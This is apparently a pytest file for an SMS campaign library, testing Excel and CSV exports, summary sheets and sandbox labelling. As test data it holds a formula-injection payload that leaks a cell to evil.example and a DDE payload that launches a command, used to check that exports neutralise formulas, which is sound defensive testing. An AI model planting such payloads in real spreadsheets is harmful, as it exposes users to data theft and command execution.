"""Excel and CSV exports: typed cells, formatting, a summary sheet, and inert formulas."""

from __future__ import annotations

import csv
from decimal import Decimal
from types import SimpleNamespace

import openpyxl
import pandas as pd
import pytest

from smsc_frames.campaign import estimate, send, summarize
from smsc_frames.client import Client
from smsc_frames.errors import ValidationError
from smsc_frames.export import neutralise, summary, to_csv, to_excel
from smsc_frames.plan import prepare
from smsc_frames.sandbox import Sandbox

INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.fixture
def results() -> pd.DataFrame:
    """Results shaped like campaign.send's, with a hostile name column and Cyrillic text."""
    return pd.DataFrame(
        {
            "phone": ["79161234567", "77011234567", "375291234567"],
            "name": [INJECTION, "Анна", "+cmd|' /C calc'!A0"],
            "sms_id": ["c0ffee-1", "c0ffee-1", "c0ffee-2"],
            "mccmnc": ["25001", "40101", None],
            "parts": [2, 2, 1],
            "cost": [Decimal("3.80"), Decimal("7.10"), None],
            "status": pd.array([1, 1, None], dtype="Int64"),
            "status_name": ["delivered", "delivered", None],
            "sent_at": pd.to_datetime(
                ["2024-03-15 09:00:01", "2024-03-15 09:00:01", None]
            ).tz_localize("Europe/Moscow"),
            "outcome": ["sent", "sent", "not sent"],
        },
        index=pd.Index([10, 11, 14], name="contact"),
    )


def test_neutralise_prefixes_every_formula_trigger_and_nothing_else():
    for trigger in ["=", "+", "-", "@", "\t", "\r"]:
        assert neutralise(trigger + "1+1") == "'" + trigger + "1+1"
    for safe in ["79161234567", "Анна", "a=b", "", "'quoted"]:
        assert neutralise(safe) == safe


def test_excel_cells_are_typed_and_formatted(tmp_path, results):
    path = to_excel(results, tmp_path / "results.xlsx")
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["results", "summary"]
    sheet = book["results"]
    header = [cell.value for cell in sheet[1]]
    assert header == ["contact", *results.columns.str.replace("sent_at", "sent_at (Europe/Moscow)")]
    header[header.index("sent_at (Europe/Moscow)")] = "sent_at"
    column = {name: number for number, name in enumerate(header, start=1)}

    phone = sheet.cell(row=2, column=column["phone"])
    assert (phone.value, phone.data_type, phone.number_format) == ("79161234567", "s", "@")
    cost = sheet.cell(row=3, column=column["cost"])
    assert (cost.value, cost.data_type, cost.number_format) == (7.1, "n", "0.00")
    assert sheet.cell(row=4, column=column["cost"]).value is None
    assert sheet.cell(row=2, column=column["contact"]).value == 10
    assert sheet.cell(row=2, column=column["parts"]).value == 2
    assert sheet.cell(row=4, column=column["status"]).value is None
    sent = sheet.cell(row=2, column=column["sent_at"])
    assert sent.is_date and sent.value == pd.Timestamp("2024-03-15 09:00:01").to_pydatetime()
    assert sheet.cell(row=3, column=column["name"]).value == "Анна"

    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:{openpyxl.utils.get_column_letter(len(header))}4"
    assert all(cell.font.b for cell in sheet[1])
    name_width = sheet.column_dimensions[openpyxl.utils.get_column_letter(column["name"])].width
    assert name_width > sheet.column_dimensions["A"].width


def test_excel_formulas_come_out_inert_as_string_cells_with_their_exact_text(tmp_path, results):
    path = to_excel(results, tmp_path / "results.xlsx")
    sheet = openpyxl.load_workbook(path)["results"]
    names = [row[0] for row in sheet.iter_rows(min_row=2, min_col=3, max_col=3, values_only=True)]
    assert names == [INJECTION, "Анна", "+cmd|' /C calc'!A0"]  # no ' where none is needed
    assert all(
        cell.data_type == "s"
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    )


def test_excel_summary_sheet_totals(tmp_path, results):
    path = to_excel(results, tmp_path / "results.xlsx")
    rows = dict(openpyxl.load_workbook(path)["summary"].iter_rows(min_row=2, values_only=True))
    assert rows["rows"] == 3
    assert rows["recipients"] == 2  # of the sent rows
    assert rows["SMS"] == 4
    assert rows["cost"] == pytest.approx(10.90)
    assert rows["outcome: sent"] == 2
    assert rows["outcome: not sent"] == 1
    assert rows["status_name: delivered"] == 2


def test_summary_totals_are_exact_decimals(results):
    table = summary(results).set_index("metric")["value"]
    assert table["cost"] == Decimal("10.90")
    assert isinstance(table["cost"], Decimal)


def test_csv_has_bom_typed_values_and_inert_formulas(tmp_path, results):
    path = to_csv(results, tmp_path / "results.csv")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(raw.decode("utf-8-sig").splitlines()))
    assert [row["name"] for row in rows] == ["'" + INJECTION, "Анна", "'+cmd|' /C calc'!A0"]
    assert [row["phone"] for row in rows] == list(results["phone"])
    assert [row["cost"] for row in rows] == ["3.80", "7.10", ""]
    assert [row["contact"] for row in rows] == ["10", "11", "14"]


def test_csv_for_russian_excel_semicolons_decimal_commas_zoned_dates(tmp_path, results):
    path = to_csv(results, tmp_path / "results.csv", sep=";", decimal=",", index=False)
    lines = path.read_text(encoding="utf-8-sig").splitlines()
    zoned = ["sent_at (Europe/Moscow)" if name == "sent_at" else name for name in results]
    assert lines[0].split(";") == zoned
    rows = list(csv.DictReader(lines, delimiter=";"))
    assert [row["cost"] for row in rows] == ["3,80", "7,10", ""]
    assert rows[0]["sent_at (Europe/Moscow)"] == "2024-03-15 09:00:01"
    assert rows[2]["sent_at (Europe/Moscow)"] == "" and rows[2]["mccmnc"] == ""


def test_exports_leave_the_results_untouched(tmp_path, results):
    before = results.copy()
    to_excel(results, tmp_path / "r.xlsx")
    to_csv(results, tmp_path / "r.csv")
    pd.testing.assert_frame_equal(results, before)


def test_summary_adds_the_quote_totals(tmp_path, results):
    quote = SimpleNamespace(recipients=3, total_parts=5, total_cost=Decimal("11.20"))
    path = to_excel(results, tmp_path / "results.xlsx", quote=quote)
    sheet = openpyxl.load_workbook(path)["summary"]
    rows = {
        metric: cell for metric, cell in ((r[0].value, r[1]) for r in sheet.iter_rows(min_row=2))
    }
    assert rows["quoted recipients"].value == 3
    assert rows["quoted SMS"].value == 5
    assert (rows["quoted cost"].value, rows["quoted cost"].number_format) == (11.2, "0.00")


def test_excel_refuses_another_suffix_and_names_the_first_sheet(tmp_path, results):
    with pytest.raises(ValidationError, match=r"\.xlsx"):
        to_excel(results, tmp_path / "results.xls")
    assert not (tmp_path / "results.xls").exists()
    path = to_excel(results, tmp_path / "quote.xlsx", sheet_name="quote")
    assert openpyxl.load_workbook(path).sheetnames == ["quote", "summary"]


def test_excel_missing_values_are_empty_cells_and_progress_counts_rows(tmp_path):
    frame = pd.DataFrame({"operator": ["MTS", None, float("nan")], "n": [1, 2, 3]})
    counted = []
    path = to_excel(frame, tmp_path / "q.xlsx", progress=counted.append)
    sheet = openpyxl.load_workbook(path)["results"]
    assert [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)] == ["MTS", None, None]
    assert sum(counted) == 3


def test_excel_header_is_styled_and_an_empty_frame_keeps_its_header(tmp_path):
    path = to_excel(pd.DataFrame({"phone": [], "cost": []}), tmp_path / "empty.xlsx", index=False)
    sheet = openpyxl.load_workbook(path)["results"]
    assert [cell.value for cell in sheet[1]] == ["phone", "cost"]
    assert sheet.max_row == 1
    header = sheet["A1"]
    assert (header.font.b, header.font.color.rgb, header.fill.fgColor.rgb) == (
        True,
        "FFFFFFFF",
        "FF305496",
    )


def test_excel_keeps_every_column_when_names_repeat(tmp_path):
    frame = pd.DataFrame([["79161234567", "a", "b"]], columns=["phone", "note", "note"])
    path = to_excel(frame, tmp_path / "twice.xlsx", index=False)
    rows = list(openpyxl.load_workbook(path)["results"].values)
    assert rows == [("phone", "note", "note (2)"), ("79161234567", "a", "b")]


def test_excel_refuses_more_rows_than_a_sheet_holds_and_writes_nothing(tmp_path):
    too_many = pd.DataFrame({"n": range(1_048_576)})
    with pytest.raises(ValidationError, match=r"1,048,575 rows.*CSV \(\.csv\) or Parquet"):
        to_excel(too_many, tmp_path / "big.xlsx", index=False)
    assert list(tmp_path.iterdir()) == []


def test_excel_refuses_a_cell_longer_than_excel_holds_naming_column_and_row(tmp_path):
    frame = pd.DataFrame({"note": ["short", "x" * 32_768]})
    with pytest.raises(ValidationError, match=r"note.*32,767 characters.*row 3"):
        to_excel(frame, tmp_path / "long.xlsx", index=False)
    assert list(tmp_path.iterdir()) == []


def test_csv_keeps_every_column_when_names_repeat(tmp_path):
    frame = pd.DataFrame([["79161234567", "=a", "b"]], columns=["phone", "note", "note"])
    path = to_csv(frame, tmp_path / "twice.csv", index=False)
    assert path.read_text(encoding="utf-8-sig") == "phone,note,note\n79161234567,'=a,b\n"


def test_excel_money_with_pandas_missing_values(tmp_path):
    """A results file read back has pd.NA (not None) beside its Decimal costs."""
    frame = pd.DataFrame({"cost": pd.Series([Decimal("1.90"), pd.NA], dtype=object)})
    path = to_excel(frame, tmp_path / "na.xlsx", index=False)
    sheet = openpyxl.load_workbook(path)["results"]
    cost = sheet.cell(row=2, column=1)
    assert (cost.value, cost.number_format) == (1.9, "0.00")
    assert sheet.cell(row=3, column=1).value is None


def test_a_sandbox_campaigns_summary_says_so_first(tmp_path):
    # only the reasons of sent rows said "sandbox": the summary sheet read as a real campaign
    contacts = pd.DataFrame({"phone": ["+7 916 123-45-67"], "text": ["Hi"]})
    with Sandbox() as sandbox:
        client = Client("demo", "demo", url=sandbox.url, environ={})
        results = send(prepare(contacts, phone="phone", text="text"), client, progress=False)
    assert results.attrs["sandbox"]
    sheet = openpyxl.load_workbook(to_excel(results, tmp_path / "r.xlsx"))["summary"]
    assert next(sheet.iter_rows(min_row=2, values_only=True)) == (
        "SANDBOX", "nothing here reached a real phone or cost real money")  # fmt: skip
    real = results.assign(reason=None)  # what SMSC's answers leave: no "sandbox: " reasons
    real.attrs["sandbox"] = False
    assert "SANDBOX" not in summary(real)["metric"].tolist()


def test_a_quotes_summary_counts_the_rows_it_would_send():
    # every row counted as a recipient: "recipients 4" above "quoted recipients 2"
    contacts = pd.DataFrame({"phone": ["+7 916 123-45-67", "89161234567", "12", "79031234567"],
                             "text": ["Hi"] * 4})  # fmt: skip
    with Sandbox() as sandbox:
        client = Client("demo", "demo", url=sandbox.url, environ={})
        quote = estimate(prepare(contacts, phone="phone", text="text"), client)
    values = dict(summary(quote.table, quote).itertuples(index=False))
    assert values["rows"] == 4
    assert values["recipients"] == values["quoted recipients"] == 2
    assert values["SMS"] == values["quoted SMS"] == 2


def test_the_sandbox_mark_survives_a_join_and_a_file(tmp_path):
    # pandas drops attrs in a join with the plan, and files keep none: the summary said nothing
    contacts = pd.DataFrame({"phone": ["+7 916 123-45-67"], "text": ["Hi"]})
    plan = prepare(contacts, phone="phone", text="text")
    with Sandbox() as sandbox:
        client = Client("demo", "demo", url=sandbox.url, environ={})
        results = send(plan, client, progress=False)
    joined = results.join(plan[["text"]])
    read_back = pd.read_csv(to_csv(results, tmp_path / "r.csv"), index_col=0)
    for frame in (joined, read_back):
        assert not frame.attrs.get("sandbox")
        assert summary(frame)["metric"].iloc[0] == "SANDBOX"
        assert summarize(frame).attrs["sandbox"] is True
    # a rehearsal put together with the real campaign: the summary says which rows were not real
    real = results.assign(reason=None).set_axis(["real"])
    real.attrs["sandbox"] = False
    both = pd.concat([results, real])
    assert summary(both).iloc[0].tolist() == [
        "SANDBOX", "1 row came from the sandbox: it reached no real phone and cost no real money"
    ]  # fmt: skip


def test_every_reason_the_sandbox_gave_says_sandbox():
    # "SMSC refused this number" came from the sandbox, and said nothing of it
    contacts = pd.DataFrame({"phone": ["+7 916 123-45-67", "+7 999 000 00 08", "12"],
                             "text": ["Hi", "Hi", "Hi"]})  # fmt: skip
    with Sandbox() as sandbox:
        client = Client("demo", "demo", url=sandbox.url, environ={})
        with pytest.warns(UserWarning, match="not sent"):
            results = send(prepare(contacts, phone="phone", text="text"), client, progress=False)
    assert results["reason"].iloc[0] == "sandbox: accepted, no real SMS was sent"
    assert results["reason"].iloc[1].startswith("sandbox: SMSC refused this number")
    assert not results["reason"].iloc[2].startswith("sandbox")  # the plan's own problem


def test_a_carriage_return_in_a_cell_can_neither_split_a_row_nor_start_a_formula(tmp_path):
    frame = pd.DataFrame({"phone": ["79161234567", "79031234567"], "outcome": ["sent"] * 2,
                          "name": ["\r=1+2", "Ann\r=1+2"]})  # fmt: skip
    path = tmp_path / "r.csv"
    to_csv(frame, path, index=False)
    back = pd.read_csv(path, encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert len(back) == 2 and back["phone"].tolist() == frame["phone"].tolist()
    assert back["name"].tolist() == ["'\r=1+2", "Ann\r=1+2"]  # one cell each, quoted
